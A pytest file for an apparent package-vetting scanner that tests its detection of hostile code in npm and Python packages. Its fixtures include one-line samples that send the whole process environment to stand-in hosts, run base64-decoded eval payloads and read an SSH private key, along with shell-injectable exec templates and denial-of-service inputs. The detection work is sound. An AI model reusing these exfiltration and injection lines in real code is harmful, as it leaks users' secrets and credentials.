"""The scan: honest code passes, what nothing runs weighs less, and hostile input costs neither time nor the process."""

from __future__ import annotations

import os
import signal
from collections import Counter
from pathlib import Path

import pytest
from tests.incidents.packages import judged, npm_package, scanned

from vsm_mcp.model.finding import CheckStatus
from vsm_mcp.vetting.code.check import examine
from vsm_mcp.vetting.code.shares import each_in_a_process

HONEST = [
    ("a.mjs", "const cfg = schema.parse(process.env);\nfetch('https://api.example.com', { headers: { a: cfg.API_KEY } });"),
    ("a.mjs", "spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });\nfetch('https://api.example.com');"),
    ("a.mjs", "import { exec } from 'child_process';\nexec('git status', () => {});"),
    ("a.mjs", "const f = new Function('a', 'return a');\nconst img = Buffer.from(data, 'base64'); fs.writeFileSync(p, img);"),
    ("a.mjs", "if (process.argv[2] === 'setup') { fs.writeFileSync(os.homedir() + '/.cursor/mcp.json', '{}'); }"),
    ("a.py", "import os, requests\nrequests.get(os.environ['URL'], headers={'k': os.getenv('KEY')})\n"),
    ("a.py", "import subprocess, shlex\ndef run(p):\n    return subprocess.run(f'ls {shlex.quote(p)}', shell=True)\n"),
    ("a.py", "import base64\ndef image(d):\n    return base64.b64decode(d)\n"),
    ("a.py", "# " + "-" * 200 + "\nX = 1\n"),
    ("a.py", "import requests\ndef ok(url):\n    host = requests.get(url).url.split('/')[2]\n    return host.endswith(('.onion', 'ngrok.io'))\n"),
    ("a.mjs", "import { z } from 'zod'; import { exec } from 'child_process';\nserver.tool('t', 'T', { l: z.enum(['a', 'b']), n: z.number().int() }, ({ l, n }) => exec(`run ${l} ${n}`));"),
    ("a.mjs", "import { z } from 'zod'; import { exec } from 'child_process';\nserver.registerTool('t', { inputSchema: z.object({ l: z.enum(['a']) }) }, ({ l }) => exec(`run ${table[l]}`));"),
    ("a.py", "import os\nfrom typing import Literal\n@mcp.tool()\ndef t(n: int, m: Literal['a', 'b'], o: int | None = None):\n    os.system(f'head -n {n} {m} {o}')\n"),
    ("a.py", "import sys, shutil\nfrom pathlib import Path\ndef main():\n    if len(sys.argv) < 2:\n        sys.exit(0)\n    shutil.copyfile('x', Path.home() / '.claude' / 'commands')\nmain()\n"),
    ("a.mjs", "import { exec } from 'child_process';\nexport function run(line, input) { return input ? exec(`echo ${input} | ${line}`) : exec(line); }"),
]  # fmt: skip

SHELL = [
    ("a.mjs", "import { z } from 'zod'; import { exec } from 'child_process';\nserver.tool('t', 'T', { l: z.enum(['a', 'b']), f: z.string() }, ({ l, f }) => exec(`run ${l} ${f}`));"),
    ("a.mjs", "import { z } from 'zod'; import { exec } from 'child_process';\nserver.registerTool('t', { inputSchema: z.object({ f: z.string() }) }, ({ f }) => exec(`run ${f}`));"),
    ("a.py", "import os\n@mcp.tool()\ndef t(n: int, m: str):\n    os.system(f'head -n {n} {m}')\n"),
    ("a.mjs", "import { exec } from 'child_process';\nexport function log(path) { return run(`git -C ${path} log`); }\nfunction run(line) { return exec(line); }"),
    ("a.mjs", "import { exec } from 'child_process';\nexport const run = (line) => exec(line);\nserver.tool('t', {}, ({ f }) => exec(`find ${f}`));"),
    ("a.mjs", "import { exec } from 'child_process';\nexport async function run(line) { exec(line); exec(`echo ${await (await fetch(u)).text()}`); }"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "source"), HONEST, ids=range(len(HONEST)))
def test_honest_code_asks_for_nothing(tmp_path: Path, name: str, source: str) -> None:
    scan = scanned(tmp_path, name, source)
    assert [finding.rule for finding in scan.findings if finding.severity.value != "note"] == []
    assert scan.skipped == ()


@pytest.mark.parametrize(("name", "source"), SHELL, ids=range(len(SHELL)))
def test_free_text_in_a_line_for_a_shell_is_for_a_person(tmp_path: Path, name: str, source: str) -> None:
    scan = scanned(tmp_path, name, source)
    assert {finding.rule for finding in scan.findings} == {"code.templated_shell"}


def test_a_weakness_in_a_file_that_nothing_leads_to_is_noted(tmp_path: Path) -> None:
    weak = "const { exec } = require('child_process');\nexports.f = (p) => exec(`ls ${p}`);\n"
    bad = "require('https').request('https://t.example.com').end(JSON.stringify(process.env));\n"
    (tmp_path / "package.json").write_text('{"name": "x", "bin": {"x": "dist/cli.js"}}')
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts/generate.js").write_text(weak + bad)
    scan = scanned(tmp_path, "dist/cli.js", "console.log(1)")
    assert {each.rule: each.severity.value for each in scan.findings} == {
        "code.templated_command": "note", "code.environment_sent": "block"
    }  # fmt: skip
    for leads in ("import '../scripts/generate.js'", "spawn('node', [dir + '/generate.js'])", "load('generate')"):
        assert "code.templated_shell" in {each.rule for each in scanned(tmp_path, "dist/cli.js", leads).findings}
    (tmp_path / "package.json").write_text('{"name": "x"}')
    assert "code.templated_shell" in {each.rule for each in scanned(tmp_path, "dist/cli.js", "").findings}


@pytest.mark.parametrize(
    "source",
    [
        "type Pair[T] = tuple[T, T]\ndef f[T](a: T) -> T:\n    return a\n",
        "x = f'{f'{y}'}'\n",
        "try:\n    x()\nexcept A, B:\n    pass\n",
        'x = (f"a {y["k"]}"  # said\n  "\\N{ESC}8" f"{z:{w}}")\n',
        "x = t'hello {name}'\n",
    ],
)
def test_python_of_later_versions_is_read(tmp_path: Path, source: str) -> None:
    assert scanned(tmp_path, "a.py", source).skipped == ()
    bad = source + "import os, requests\nrequests.post('https://a.example.com', json=dict(os.environ))\n"
    scan = scanned(tmp_path, "a.py", bad)
    place = bad.splitlines().index("requests.post('https://a.example.com', json=dict(os.environ))") + 1
    assert [(each.rule, each.where) for each in scan.findings] == [("code.environment_sent", f"a.py:{place}")]


def test_code_within_a_text_of_later_python_is_read(tmp_path: Path) -> None:
    source = "import os, requests\nx = f'{f'{requests.post(u, json=dict(os.environ))}'}'\n"
    assert [each.rule for each in scanned(tmp_path, "a.py", source).findings] == ["code.environment_sent"]


def test_a_large_package_is_shared_out_and_nothing_of_it_is_lost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("os.sched_getaffinity", lambda _process: {0, 1, 2})
    filler = "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(4_000))
    for number in range(9):
        bad = f"require('./tests/part{number}');\nfetch('https://h{number}.example.com', {{ body: JSON.stringify(process.env) }});\n"
        (tmp_path / f"m{number}.js").write_text(filler + bad)
    (tmp_path / "tests").mkdir()
    for number in range(9):
        (tmp_path / f"tests/part{number}.js").write_text("eval(atob('YQ=='));\n")
    (tmp_path / "tests/unused.js").write_text("eval(atob('YQ=='));\n")
    scan = scanned(tmp_path, "index.js", "fetch('https://own.example.com');")
    assert (scan.looked_at, scan.skipped) == (20, ())
    counts = Counter((each.rule, each.severity.value) for each in scan.findings)
    assert counts == {
        ("code.environment_sent", "block"): 9, ("code.decoded_run", "block"): 9, ("code.decoded_run", "review"): 1
    }  # fmt: skip
    assert {f"h{number}.example.com" for number in range(9)} < set(scan.profile.constants)


def test_a_share_that_gives_no_answer_is_no_pass() -> None:
    def work(part: frozenset[str]) -> int:
        if "a" not in part:
            os.kill(os.getpid(), signal.SIGKILL)
        return 1

    assert each_in_a_process(work, [frozenset("a"), frozenset("a")], int) == [1, 1]
    with pytest.raises(ChildProcessError, match="not looked at"):
        each_in_a_process(work, [frozenset("a"), frozenset("b")], int)


def test_what_nothing_runs_is_for_a_person_unless_it_is_imported(tmp_path: Path) -> None:
    bad = "eval(atob('YQ=='));"
    first = scanned(tmp_path, "tests/fixture.js", bad)
    assert [finding.severity.value for finding in first.findings] == ["review"]
    second = scanned(tmp_path, "index.js", "require('./tests/fixture');")
    assert [finding.severity.value for finding in second.findings] == ["block"]


def test_a_bundle_is_read_piece_by_piece_not_skipped_by_its_name(tmp_path: Path) -> None:
    filler = "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(12_000))
    bad = "const q = require('https');\n(() => { q.request('https://t.example.com').end(JSON.stringify(process.env)); })();\n"
    scan = scanned(tmp_path, "dist/bundle.min.js", filler + bad + filler)
    assert [finding.rule for finding in scan.findings] == ["code.environment_sent"]


def test_each_piece_of_a_bundle_is_a_place_of_its_own(tmp_path: Path) -> None:
    filler = "".join(f"function f{n}(a) {{ return a + {n}; }}\n" for n in range(12_000))
    read = "function key() { return require('fs').readFileSync('/home/u/.ssh/id_rsa'); }\n"
    scan = scanned(tmp_path, "dist/bundle.js", read + filler + "fetch('https://api.example.com');\n")
    assert scan.findings == ()


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("deep.py", "x = " + "(" * 5000 + ")" * 5000),
        ("minus.py", "x = " + "-" * 200_000 + "1"),
        ("chain.py", "x = a" + ".b" * 200_000),
        ("deep.js", "x = " + "[" * 40_000 + "]" * 40_000),
        ("ternary.js", "x = " + "a?b:" * 20_000 + "c"),
    ],
    ids=["brackets", "signs", "members", "arrays", "ternaries"],
)
async def test_deep_nesting_is_unavailable_with_the_reason(tmp_path: Path, name: str, source: str) -> None:
    (tmp_path / name).write_text(source)
    result = await examine(tmp_path)
    assert result.status is CheckStatus.UNAVAILABLE
    assert result.detail


async def test_one_endless_line_and_bytes_that_are_no_text_do_not_hang(tmp_path: Path) -> None:
    (tmp_path / "line.js").write_bytes(b"a=1;" * 13_000_000)
    (tmp_path / "bytes.js").write_bytes(os.urandom(200_000))
    (tmp_path / "bytes.py").write_bytes(b"\xff\xfe\x00" * 1000)
    (tmp_path / "regex.js").write_text("x = '" + "a" * 3000 + "@" + "a." * 30_000 + "';" + "/.ssh" * 20_000)
    result = await examine(tmp_path)
    assert result.status is CheckStatus.UNAVAILABLE
    assert "line.js: it is too large" in result.detail


async def test_a_scan_that_takes_too_long_is_ended_and_unavailable(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text("a=1;")
    result = await examine(tmp_path, seconds=0.01)
    assert (result.status, result.looked_at) == (CheckStatus.UNAVAILABLE, 0)
    assert "took longer" in result.detail


async def test_the_capabilities_and_addresses_are_part_of_the_result(tmp_path: Path) -> None:
    source = "fetch('https://api.example.net/x');\n// mail me@host.example.net\n"
    code = (await judged(npm_package(tmp_path, {"index.mjs": source})))[1]
    assert code.status is CheckStatus.PASS
    assert code.profile is not None
    assert code.profile.capabilities == ("network",)
    assert code.profile.constants == ("api.example.net", "me@host.example.net")
